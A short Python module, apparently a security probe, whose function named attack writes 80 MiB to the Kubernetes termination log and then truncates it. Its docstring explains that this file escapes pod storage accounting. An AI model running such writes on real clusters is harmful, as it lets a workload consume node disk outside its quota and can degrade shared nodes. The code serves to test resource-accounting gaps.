"""Eighty mebibytes of last words.

The termination log is the node's file and counts for no pod's share; each start of the container has a new one.
"""

import os

LOG = "/dev/termination-log"


def attack() -> None:
    """Write them, and take them back."""
    log = os.open(LOG, os.O_WRONLY)
    try:
        for _ in range(80):
            os.write(log, bytes(1 << 20))
    finally:
        os.ftruncate(log, 0)
